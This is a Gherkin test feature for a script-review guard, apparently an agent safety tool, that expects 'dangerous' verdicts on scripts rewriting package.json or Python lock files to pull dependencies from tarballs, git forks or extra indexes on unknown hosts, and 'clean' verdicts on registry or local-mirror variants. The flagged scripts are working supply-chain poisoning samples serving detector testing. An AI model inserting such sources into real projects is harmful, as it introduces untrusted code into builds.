Feature: Package sources followed into the manifests and lock files they end up in
  A dependency pointed at a tarball or git source of an unknown host is supply-chain
  poisoning however the script carries it there: an object literal spread into the manifest,
  Object.assign under a computed name, a Map of forks, an enum's member given to a resolve,
  a property that adds an index to a pinned requirements.lock. The same shapes with the
  public registry, a version range, or a local mirror stay clean.

  Scenario: an object literal's tarball dependency spread into package.json is dangerous
    Given a project file "add-lint.ts" containing:
      """
      import { readFileSync, writeFileSync } from 'node:fs';

      const extra = {
        devDependencies: {
          '@team/lint-rules': 'https://tarballs.lintpkg.example/lint-rules-3.1.0.tgz',
        },
      } satisfies Record<string, Record<string, string>>;

      const pkg = JSON.parse(readFileSync('package.json', 'utf8'));
      const out = { ...pkg, devDependencies: { ...pkg.devDependencies, ...extra.devDependencies } };
      writeFileSync('package.json', JSON.stringify(out, null, 2) + '\n');
      """
    When I run "terraphim-agent guard review-script --json add-lint.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same object literal with a version range is clean
    Given a project file "add-lint-range.ts" containing:
      """
      import { readFileSync, writeFileSync } from 'node:fs';

      const extra = {
        devDependencies: {
          '@team/lint-rules': '^3.1.0',
        },
      } satisfies Record<string, Record<string, string>>;

      const pkg = JSON.parse(readFileSync('package.json', 'utf8'));
      const out = { ...pkg, devDependencies: { ...pkg.devDependencies, ...extra.devDependencies } };
      writeFileSync('package.json', JSON.stringify(out, null, 2) + '\n');
      """
    When I run "terraphim-agent guard review-script --json add-lint-range.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: Object.assign of tarballs under computed names into package.json is dangerous
    Given a project file "prebuilt.js" containing:
      """
      const fs = require('fs');
      const MIRROR = 'https://bin.nativepkg.example/npm';
      const spec = (name, v) => `${MIRROR}/${name}/-/${name}-${v}.tgz`;
      const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
      for (const name of ['bcrypt', 'sqlite3']) {
        if (pkg.dependencies[name]) {
          Object.assign(pkg.dependencies, { [name]: spec(name, '5.1.1') });
        }
      }
      fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));
      """
    When I run "terraphim-agent guard review-script --json prebuilt.js"
    Then the JSON field "verdict" is "dangerous"

  Scenario: Object.assign of exact versions into package.json is clean
    Given a project file "pin.js" containing:
      """
      const fs = require('fs');
      const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
      for (const name of ['bcrypt', 'sqlite3']) {
        if (pkg.dependencies[name]) {
          Object.assign(pkg.dependencies, { [name]: pkg.dependencies[name].replace(/^[~^]/, '') });
        }
      }
      fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));
      """
    When I run "terraphim-agent guard review-script --json pin.js"
    Then the JSON field "verdict" is "clean"

  Scenario: git sources of an unknown host taken from a Map of forks are dangerous
    Given a project file "forks.ts" containing:
      """
      import fs from 'node:fs';

      const forks = new Map<string, { source: string }>([
        ['yaml', { source: 'git+https://git.yamlforks.example/forks/yaml.git#fix-anchors' }],
      ]);
      const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
      for (const section of ['dependencies', 'devDependencies'] as const) {
        const deps = pkg[section];
        if (!deps) continue;
        for (const [name, fork] of forks) {
          if (name in deps) deps[name] = fork.source;
        }
      }
      fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2) + '\n');
      """
    When I run "terraphim-agent guard review-script --json forks.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: version ranges taken from a Map of pins are clean
    Given a project file "pins.ts" containing:
      """
      import fs from 'node:fs';

      const pins = new Map<string, { source: string }>([
        ['yaml', { source: '^2.4.1' }],
      ]);
      const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
      for (const section of ['dependencies', 'devDependencies'] as const) {
        const deps = pkg[section];
        if (!deps) continue;
        for (const [name, pin] of pins) {
          if (name in deps) deps[name] = pin.source;
        }
      }
      fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2) + '\n');
      """
    When I run "terraphim-agent guard review-script --json pins.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: pip-compile given an enum member's index on an unknown host is dangerous
    Given a project file "relock.py" containing:
      """
      import enum
      import subprocess


      class Mirror(enum.Enum):
          MAIN = "https://pypi.org/simple"
          EXTRA = "https://wheels.cachepkgs.example/simple"


      argv = ["pip-compile", "--index-url", Mirror.MAIN.value]
      for m in Mirror:
          if m is not Mirror.MAIN:
              argv += ["--extra-index-url", m.value]
      argv += ["--output-file", "requirements.txt", "requirements.in"]
      subprocess.run(argv, check=True)
      """
    When I run "terraphim-agent guard review-script --json relock.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: pip-compile given an enum member's local mirror is clean
    Given a project file "relock-local.py" containing:
      """
      import enum
      import subprocess


      class Mirror(enum.Enum):
          MAIN = "https://pypi.org/simple"
          EXTRA = "http://127.0.0.1:3141/simple"


      argv = ["pip-compile", "--index-url", Mirror.MAIN.value]
      for m in Mirror:
          if m is not Mirror.MAIN:
              argv += ["--extra-index-url", m.value]
      argv += ["--output-file", "requirements.txt", "requirements.in"]
      subprocess.run(argv, check=True)
      """
    When I run "terraphim-agent guard review-script --json relock-local.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a requirements.lock given an unknown index by a property is dangerous
    Given a project file "lockgen.py" containing:
      """
      from pathlib import Path

      LOCK = Path(__file__).resolve().parent / "requirements.lock"


      class Lock:
          host = "pkgs.wheelcache.example"

          @property
          def head(self):
              return ["--index-url https://pypi.org/simple", f"--extra-index-url https://{self.host}/simple"]

          def text(self):
              return "\n".join(self.head + ["attrs==23.2.0"]) + "\n"


      LOCK.write_text(Lock().text())
      """
    When I run "terraphim-agent guard review-script --json lockgen.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a requirements.lock naming only the public index is clean
    Given a project file "lockgen-public.py" containing:
      """
      from pathlib import Path

      LOCK = Path(__file__).resolve().parent / "requirements.lock"


      class Lock:
          host = "pypi.org"

          @property
          def head(self):
              return ["--index-url https://pypi.org/simple", f"--extra-index-url https://{self.host}/simple"]

          def text(self):
              return "\n".join(self.head + ["attrs==23.2.0"]) + "\n"


      LOCK.write_text(Lock().text())
      """
    When I run "terraphim-agent guard review-script --json lockgen-public.py"
    Then the JSON field "verdict" is "clean"
